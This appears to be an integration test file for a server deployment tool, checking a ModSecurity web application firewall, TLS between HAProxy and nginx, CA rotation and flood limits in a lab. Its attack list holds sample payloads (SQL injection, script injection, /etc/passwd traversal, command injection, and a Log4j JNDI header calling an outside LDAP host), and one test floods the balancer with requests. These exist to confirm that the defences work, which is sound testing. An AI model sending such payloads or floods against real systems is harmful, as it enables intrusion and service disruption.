// What stands between strangers and the app: the web application firewall, the encryption behind the balancer, the limits.
import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import anyTest, { type TestFn } from 'ava'
import { app } from '../../roles/app.ts'
import { firewall } from '../../roles/firewall.ts'
import { floods } from '../../roles/floods.ts'
import { haproxy } from '../../roles/haproxy.ts'
import { nginx } from '../../roles/nginx.ts'
import { rolling } from '../../roles/rolling.ts'
import { type Play, play } from '../../src/core/play.ts'
import type { RunRequest } from '../../src/engine/run.ts'
import * as apt from '../../src/resources/apt.ts'
import { useLab } from '../lab/harness.ts'
import { root } from '../lab/provision.ts'
import { startLoad } from '../lab/steady-load.ts'

const test = anyTest as TestFn
// nobody of the site: an ordinary client, then one who floods
const lab = useLab(test, 'defence', ['lb1:bookworm', 'web1:bookworm', 'web2:sid', 'stranger:bookworm'])

const domains = ['www.foobar.com']
const web = (options: Partial<ReturnType<typeof rolling>> = {}) =>
  play({
    name: 'web',
    hosts: 'web',
    roles: [app({ source: { directory: join(root, 'test/lab/echo-app') } }), nginx({ domains })],
    ...options,
  })
const others = [
  play({ name: 'load balancer', hosts: 'lb', roles: [haproxy({ domains })] }),
  play({ name: 'every server', hosts: 'all', roles: [floods(), firewall()] }),
]
const atOnce = [web(), ...others]
/** As playbooks/deploy.ts does it to servers that are in service. */
const oneByOne = [web(rolling({ healthy: () => 'http://127.0.0.1:8080/healthz' })), ...others]
const hosts = ['lb1', 'web1', 'web2']

/** The controller is named; the stranger is no host of the inventory. */
function run(
  vars: Record<string, unknown> = {},
  site: Record<string, unknown> = {},
  { plays = atOnce, ...more }: Partial<RunRequest> & { plays?: readonly Play[] } = {},
) {
  const all = lab().inventory({
    groups: { lb: ['lb1'], web: ['web1', 'web2'], app: ['web1', 'web2'] },
    vars: { site: { allowedSources: [lab().status.network.gateway], ...site }, ...vars },
  })
  const inventory = {
    ...all,
    hosts: all.hosts.filter((host) => hosts.includes(host.name)),
    select: (pattern: string) => all.select(pattern).filter((host) => hosts.includes(host.name)),
  }
  return lab().run(plays, { inventory, ...more })
}

test.serial('the tiers come up, and a second run changes nothing', async (t) => {
  t.timeout(900_000)
  const tools = await lab().run([play({ hosts: 'stranger', tasks: apt.package({ pkg: 'curl' }) })])
  t.is(tools.result.outcome, 'ok', tools.errors.join('\n'))
  const first = await run()
  t.is(first.result.outcome, 'ok', first.errors.join('\n'))
  for (const [host, counts] of Object.entries((await run()).result.hosts)) t.is(counts.changed, 0, host)
})

/** What curl gets from a web server, asked on its own host: the answer, and the status in a line of its own. */
async function ask(host: string, path: string, more = '', input = ':'): Promise<{ status: string; body: string }> {
  const answer = await lab().must(
    host,
    `${input} | curl -s -w '\\n%{http_code}' -H 'Host: www.foobar.com' ${more} 'http://127.0.0.1:8080${path}'`,
  )
  const [status = '', ...lines] = answer.split('\n').reverse()
  return { status, body: lines.reverse().join('\n') }
}

const attacks: readonly (readonly [string, string, string?])[] = [
  ['SQL injection', '/notes?id=1%27%20OR%20%271%27=%271%27--'],
  ['script', '/?q=%3Cscript%3Ealert(1)%3C/script%3E'],
  ['traversal', '/download?file=../../../../etc/passwd'],
  ['scanner', '/', "-A 'Mozilla/5.00 (Nikto/2.5.0)'"],
  ['SQL injection in a form', '/notes', `--data-urlencode "text=1' UNION SELECT password FROM users--"`],
  // the two that the role adds to Debian's rules
  ['Log4j in a header', '/', `-H 'X-Api-Version: \${jndi:ldap://203.0.113.1/a}'`],
  ['prototype of JavaScript', '/notes', `-H 'Content-Type: application/json' --data '{"__proto__":{"x":1}}'`],
  ['command in JSON', '/notes', `-H 'Content-Type: application/json' --data '{"text":"; cat /etc/passwd"}'`],
]

const oddText = 'Grüße, 你好 😀 ½ “quoted” – it’s 100 % fine & 2 < 3'
const ordinary: readonly (readonly [string, string, string?, string?])[] = [
  ['page', '/'],
  ['static file', '/static/robots.txt'],
  ['health', '/healthz'],
  ['odd text in a form', '/notes', `--data-urlencode 'text=${oddText}'`],
  ['odd text in JSON', '/notes', `-H 'Content-Type: application/json' --data-binary '{"text":"${oddText}"}'`],
  ['odd text without a type', '/notes', `-H 'Content-Type:' --data-binary '${oddText}'`],
  ['a form of 200 kB', '/notes', '--data-urlencode text@-', 'seq 1 34000'],
]

for (const mode of ['detect', 'block'] as const)
  test.serial(`WAF, ${mode}: an attack ${mode === 'block' ? 'gets 403' : 'passes and is logged'}`, async (t) => {
    t.timeout(600_000)
    const vars = { nginx: { waf: mode } }
    const first = await run(vars)
    t.is(first.result.outcome, 'ok', first.errors.join('\n'))
    for (const [host, counts] of Object.entries((await run(vars)).result.hosts)) t.is(counts.changed, 0, host)
    const promises = await run(vars, {}, { verify: true })
    t.is(promises.result.outcome, 'ok', promises.errors.join('\n'))
    for (const host of ['web1', 'web2']) {
      for (const [title, path, more] of attacks)
        t.is((await ask(host, path, more)).status, mode === 'block' ? '403' : '200', `${host}: ${title}`)
      for (const [title, path, more, input] of ordinary)
        t.is((await ask(host, path, more, input)).status, '200', `${host}: ${title}`)
    }
  })

test.serial('WAF: what an exclusion names passes, there and nowhere else; the log outlives its rotation', async (t) => {
  t.timeout(600_000)
  const vars = {
    nginx: {
      waf: 'block',
      wafContentTypes: ['text/plain'],
      wafExclusions: [
        { rule: 'all', path: '/preview/*' },
        { rule: 941100, path: '/notes', parameter: 'html' },
        { rule: 941110, path: '/notes', parameter: 'html' },
        { rule: 941160, path: '/notes', parameter: 'html' },
        { rule: 930120, parameter: 'log' },
      ],
    },
  }
  const changed = await run(vars)
  t.is(changed.result.outcome, 'ok', changed.errors.join('\n'))
  const script = '%3Cscript%3Ealert(1)%3C/script%3E'
  for (const host of ['web1', 'web2']) {
    const status = async (path: string, more?: string) => (await ask(host, path, more)).status
    t.is(await status(`/preview/7?q=${script}`), '200')
    t.is(await status(`/notes?html=${script}`), '200')
    t.is(await status(`/notes?other=${script}`), '403')
    t.is(await status(`/elsewhere?html=${script}`), '403')
    t.is(await status('/x?log=.bash_history'), '200')
    t.is(await status('/x?file=.bash_history'), '403')
    const { body } = await ask(
      host,
      '/notes',
      `-H 'Content-Type: text/plain; charset=utf-8' --data-binary '${oddText}'`,
    )
    t.is(body.split('\n').slice(1).join('\n'), oddText)

    const log = '/var/log/nginx/modsec_audit.json'
    t.is((await lab().must(host, `stat -c '%a %U:%G' ${log}`)).trim(), '640 www-data:adm')
    await lab().must(host, 'command -v logrotate >/dev/null && logrotate -f /etc/logrotate.d/nginx-waf')
    t.is((await ask(host, `/after-rotation?q=${script}`)).status, '403')
    await lab().must(
      host,
      `for turn in $(seq 300); do grep -q after-rotation ${log} && exit 0; sleep 0.1; done; ls -l /var/log/nginx; exit 1`,
    )
    t.is((await lab().must(host, `stat -c '%a %U:%G' ${log}`)).trim(), '640 www-data:adm')
    // one entry a line, and no password or cookie in any of them
    t.notRegex(await lab().must(host, `cat ${log} ${log}.1`), /"headers"/)
  }
})

test.serial('WAF: what nginx would not accept is refused before it runs, and off takes it all away', async (t) => {
  t.timeout(600_000)
  await lab().must('web1', 'echo "SecNonsense On" >>/etc/modsecurity/crs/crs-setup.conf')
  const refused = await run({ nginx: { waf: 'block', wafParanoia: 2 } })
  t.is(refused.result.outcome, 'failed')
  t.is((await ask('web1', '/')).status, '200')
  await lab().must('web1', 'sed -i "/SecNonsense/d" /etc/modsecurity/crs/crs-setup.conf')
  const off = await run({ nginx: { waf: 'off' } })
  t.is(off.result.outcome, 'ok', off.errors.join('\n'))
  for (const host of ['web1', 'web2']) {
    t.is((await ask(host, '/?q=%3Cscript%3E')).status, '200')
    t.not((await lab().on(host, 'grep -rs modsecurity /etc/nginx/conf.d /etc/nginx/waf.conf')).code, 0)
  }
})

const balancer = `echo 'show stat' | socat - /run/haproxy/admin.sock`

/** Waits until HAProxy says this of a server: `UP`, `DOWN`. */
async function seen(server: string, state: string): Promise<void> {
  await lab().must(
    'lb1',
    `for turn in $(seq 600); do ${balancer} | awk -F, '$1 == "web" && $2 == "${server}" { print $18 }' | grep -q '^${state}' && exit 0; sleep 0.1; done; ${balancer}; exit 1`,
  )
}

test.serial(
  'TLS behind the balancer: verified by name; a wrong name or a foreign CA takes the server out',
  async (t) => {
    t.timeout(600_000)
    await seen('web1', 'UP')
    await seen('web2', 'UP')
    const reach = (port: number) =>
      `timeout 5 bash -c 'exec 3<>/dev/tcp/${lab().address('web1')}/${port}' 2>/dev/null && echo open || echo closed`
    t.is((await lab().must('lb1', reach(8443))).trim(), 'open')
    t.is((await lab().must('lb1', reach(8080))).trim(), 'closed')
    t.is((await lab().must('web2', reach(8443))).trim(), 'closed')

    const wrong = {
      'of another host': `cat > /etc/nginx/tls/server.pem <<'X'
${await lab().must('web2', 'cat /etc/nginx/tls/server.pem')}X
cat > /etc/nginx/tls/server.key <<'X'
${await lab().must('web2', 'cat /etc/nginx/tls/server.key')}X`,
      'of a foreign CA': `openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 30 -subj /CN=web1 -addext subjectAltName=DNS:web1 -keyout /etc/nginx/tls/server.key -out /etc/nginx/tls/server.pem 2>/dev/null`,
    }
    for (const [which, put] of Object.entries(wrong)) {
      await lab().must('web1', `${put}\nsystemctl reload nginx`)
      await seen('web1', 'DOWN')
      const reason = await lab().must('lb1', `${balancer} | grep '^web,web1,'`)
      t.regex(reason, /L6RSP/, which)
      const answer = await lab().must('stranger', `curl -sk -H 'Host: www.foobar.com' https://${lab().address('lb1')}/`)
      t.regex(answer, /^echo web2 /, which)
      const mended = await run()
      t.is(mended.result.outcome, 'ok', mended.errors.join('\n'))
      await seen('web1', 'UP')
    }
  },
)

test.serial('another CA follows the first one without a failed request', async (t) => {
  t.timeout(900_000)
  const load = startLoad(lab().address('lb1'), 'www.foobar.com')
  t.teardown(() => load.end(0))
  const secrets = JSON.parse(readFileSync(lab().secretsFile, 'utf8')) as Record<string, string>
  const [old = '', next] = [secrets['tls.ca'], 'a secret for the next CA, long enough']
  for (const value of [`${old}\n${next}`, `${next}\n${old}`, next]) {
    writeFileSync(lab().secretsFile, JSON.stringify({ ...secrets, 'tls.ca': value }), { mode: 0o600 })
    const ran = await run({}, {}, { plays: oneByOne })
    t.is(ran.result.outcome, 'ok', ran.errors.join('\n'))
    t.true(ran.log.some((line) => /^web1 changed .*tls\.internal/.test(line)))
    for (const server of ['web1', 'web2']) await seen(server, 'UP')
  }
  const tally = await load.end(1000)
  t.deepEqual(tally.failures, [])
  t.is((await lab().must('lb1', 'grep -c BEGIN /etc/haproxy/tls/ca.pem')).trim(), '1')
})

test.serial(
  'a flood gets 429, then no connection; others are served meanwhile, and the controller is not counted',
  async (t) => {
    t.timeout(600_000)
    const strict = await run({}, { ddosProtection: 'strict' })
    t.is(strict.result.outcome, 'ok', strict.errors.join('\n'))
    for (const [host, counts] of Object.entries((await run({}, { ddosProtection: 'strict' })).result.hosts))
      t.is(counts.changed, 0, host)
    t.is((await lab().must('web1', 'cat /proc/sys/net/core/somaxconn')).trim(), '8192')
    const address = lab().address('lb1')
    const flood = (count: number) =>
      lab().on(
        'stranger',
        `curl -sk --http1.1 -o /dev/null -w '%{http_code}\\n' -H 'Host: www.foobar.com' 'https://${address}/?[1-${count}]' | sort | uniq -c`,
      )
    const many = await flood(700)
    t.regex(many.stdout, / 200\n/)
    t.regex(many.stdout, / 429\n/)
    // far over the limit it is not even greeted any more
    const more = await lab().on(
      'stranger',
      `for turn in $(seq 600); do curl -sk -m 10 -o /dev/null --http1.1 'https://${address}/?[1-20]'; code=$?; [ $code = 0 ] || { echo $code; exit 0; }; done; exit 1`,
    )
    t.is(more.code, 0, more.stderr)
    const load = startLoad(address, 'www.foobar.com')
    t.teardown(() => load.end(0))
    t.deepEqual((await load.end(1500)).failures, [])

    const limited = await lab().must('web1', 'ufw status')
    t.regex(limited, /22\/tcp +LIMIT +Anywhere/)
    t.regex(limited, new RegExp(`22/tcp +ALLOW +${lab().status.network.gateway}`))

    const off = await run({}, { ddosProtection: 'off' })
    t.is(off.result.outcome, 'ok', off.errors.join('\n'))
    t.notRegex(await lab().must('lb1', 'cat /etc/haproxy/haproxy.cfg'), /stick-table|429/)
    t.notRegex(await lab().must('web1', 'cat /etc/nginx/conf.d/site.conf'), /limit_req|limit_conn/)
    t.notRegex(await lab().must('web1', 'ufw status'), /LIMIT/)
    t.is((await lab().on('web1', 'ls /etc/sysctl.d/61-floods.conf')).code, 2)
    t.regex((await flood(700)).stdout, /^ *700 200\n$/)
  },
)
